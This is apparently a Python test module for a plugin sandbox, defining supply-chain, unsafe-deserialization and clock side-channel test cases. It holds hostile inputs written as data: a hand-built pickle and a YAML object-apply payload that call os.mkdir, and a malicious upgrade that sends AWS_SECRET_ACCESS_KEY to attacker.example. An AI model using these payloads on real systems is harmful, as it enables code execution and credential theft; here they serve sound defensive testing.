"""What comes from elsewhere in the place of what was meant: other modules, code in data, clocks.

A pickle is a program. Nothing here reads one; the rows put one wherever a file or an answer is
read, and look for what it would have done.
"""

from __future__ import annotations

import hashlib
import json
import os
import struct
import subprocess
import sys
from collections.abc import Callable
from functools import partial
from pathlib import Path
from typing import Final

from fumehood import errors
from fumehood.provider import Provider, Registry
from fumehood.testing.gallery.attacks import HARMLESS, Attack
from fumehood.testing.gallery.caching import Entry
from fumehood.testing.gallery.documents import wire
from fumehood.testing.gallery.stage import Stage

PINNED: Final = "A module that is not the pinned one is not used."
SHOWN: Final = "An upgrade that asks for more is shown before it is used."
PICKLES: Final = "Nothing that a guest or a file says is run by reading it."
CLOCKS: Final = "Clocks are as coarse as the operator says (a mitigation, no barrier)."

_STEP: Final = 50_000_000


def _provider(stage: Stage, url: str, **fill: str) -> bytes:
    row = Attack("", "", "", "", guest="provider", fill={"prefix": wire(f"{url}models"), **fill})
    return row.source(url).encode()


def _entry(folder: Path, url: str, module: bytes, pin: bytes) -> Path:
    """A plugins.json with one entry, `it`, pinned to the digest of `pin`."""
    (folder / "it.wat").write_bytes(module)
    entry = {
        "name": "it", "path": "it.wat", "sha256": hashlib.sha256(pin).hexdigest(),
        "config": {"base_url": url, "model": "m"},
    }  # fmt: skip
    path = folder / "plugins.json"
    path.write_text(json.dumps({"providers": [entry]}), encoding="utf-8")
    return path


def _wrong(stage: Stage) -> None:
    """Somebody put another module where the pinned one was."""
    server, folder = stage.stub(), stage.folder()
    meant, other = (_provider(stage, server.url, reply=f'{{"text":"{t}"}}') for t in "ab")
    with Registry(_entry(folder, server.url, other, meant)) as registry, stage.outcome.timed():
        registry.open("it").close()


def _changed(stage: Stage) -> None:
    """The same, while the provider is in use: it goes on with the one that it has."""
    server, folder = stage.stub(), stage.folder()
    meant, other = (_provider(stage, server.url, reply=f'{{"text":"{t}"}}') for t in "ab")
    with (
        Registry(_entry(folder, server.url, meant, meant)) as registry,
        registry.open("it", timeout_seconds=5) as provider,
    ):
        stage.require(provider.chat("hello").text == "a", "the pinned plugin does not work")
        (folder / "it.wat").write_bytes(other)
        os.utime(folder / "it.wat", ns=(1, 1))
        with stage.outcome.timed():
            answer = provider.chat("hello")
        stage.outcome.receipt = answer.receipt
        stage.require(answer.text == "a", f"another module answered {answer.text!r}")


def _asks_for_more(stage: Stage) -> None:
    """A release that sends the key to another host, and wants another key."""
    folder = stage.folder()
    before = _provider(stage, "http://127.0.0.1:1/", base_url="https://api.openai.com/v1/",
                       variable="OPENAI_API_KEY")  # fmt: skip
    after = _provider(stage, "http://127.0.0.1:1/", base_url="https://attacker.example/v1/",
                      variable="AWS_SECRET_ACCESS_KEY")  # fmt: skip
    (folder / "before.wat").write_bytes(before)
    (folder / "after.wat").write_bytes(after)
    with stage.outcome.timed():
        ran = subprocess.run(
            [sys.executable, "-m", "fumehood", "inspect", "after.wat", "--risk", "--json",
             "--against", "before.wat"],
            cwd=folder, capture_output=True, check=False,
            env={**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)},
        )  # fmt: skip
    stage.require(ran.returncode == 0, f"inspect failed: {ran.stderr[-300:]!r}")
    shown = {row["what"]: row["verdict"] for row in json.loads(ran.stdout)["difference"]}
    for what in ("its default host", "its key variable"):
        stage.require(shown.get(what) == "HIGH", f"{what}: {shown.get(what)!r}")


def _pickle(stage: Stage, use: Callable[[Stage, bytes, Path], None]) -> None:
    """A pickle that makes a folder; it must not be there afterwards."""
    trace = stage.folder() / "unpickled"
    text = b"cos\nmkdir\n(S'%s'\ntR." % str(trace).encode()
    try:
        with stage.outcome.timed():
            use(stage, text, trace)
    finally:
        stage.require(not trace.exists(), "it was unpickled")


def _as_module(_stage: Stage, text: bytes, _trace: Path) -> None:
    Provider.open(text).close()


def _as_compiled(stage: Stage, text: bytes, _trace: Path) -> None:
    entry = Entry(stage)
    entry.file.write_bytes(text)
    entry.mac.write_bytes(text)
    if entry.cache.load(entry.digest) is None:
        raise errors.CacheError("it was not loaded")


def _as_audit(stage: Stage, text: bytes, _trace: Path) -> None:
    path = stage.folder() / "audit.jsonl"
    path.write_bytes(text)
    try:
        Registry(stage.folder() / "none", audit=path).close()
    finally:
        stage.require(path.read_bytes() == text, "it was written to")


def _as_settings(stage: Stage, _text: bytes, trace: Path) -> None:
    """The YAML of the same."""
    path = stage.folder() / "plugins.yaml"
    path.write_text(f"providers: !!python/object/apply:os.mkdir ['{trace}']\n", encoding="utf-8")
    Registry(path).close()


def _as_schema(stage: Stage, text: bytes, _trace: Path) -> None:
    _open(stage, schema=text.decode())


def _as_reply(stage: Stage, text: bytes, _trace: Path) -> None:
    _open(stage, reply=text.decode())


def _open(stage: Stage, **fill: str) -> None:
    server = stage.stub()
    with Provider.open(
        _provider(stage, server.url, **fill),
        config={"base_url": server.url, "model": "m"},
        limits=stage.limits,
    ) as provider:
        provider.chat("hello")


def _coarse(stage: Stage) -> None:
    guest = stage.guest(clock_step=_STEP)
    for _ in range(3):
        read = struct.unpack("<8Q", guest.call())
        stage.require(all(read), "a clock does not go")
        stage.require(not any(t % _STEP for t in read[:4]), f"a clock shows {read[:4]}")
        stage.require(set(read[4:]) == {_STEP}, f"a clock claims {read[4:]}")


_PICKLED: Final[dict[str, tuple[str, Callable[[Stage, bytes, Path], None]]]] = {
    "module": ("LoadError", _as_module),
    "compiled_module": ("CacheError", _as_compiled),
    "audit_file": ("ConfigError", _as_audit),
    "settings": ("ConfigError", _as_settings),
    "schema": ("ProtocolError", _as_schema),
    "reply": ("ProtocolError", _as_reply),
}

SUPPLY: Final = (
    Attack("digest_wrong", "supply chain", PINNED, "LoadError", run=_wrong),
    Attack("digest_changes", "supply chain", PINNED, HARMLESS, limits={"deadline": 5.0},
           run=_changed),
    Attack("upgrade_asks_for_more", "supply chain", SHOWN, HARMLESS, limits={"deadline": 20.0},
           run=_asks_for_more),
    *(
        Attack(f"pickle_as_{where}", "pickles", PICKLES, expect, limits={"deadline": 5.0},
               run=partial(_pickle, use=use))
        for where, (expect, use) in _PICKLED.items()
    ),
    Attack("precise_clocks", "side channels", CLOCKS, HARMLESS, guest="clocks", run=_coarse),
)  # fmt: skip
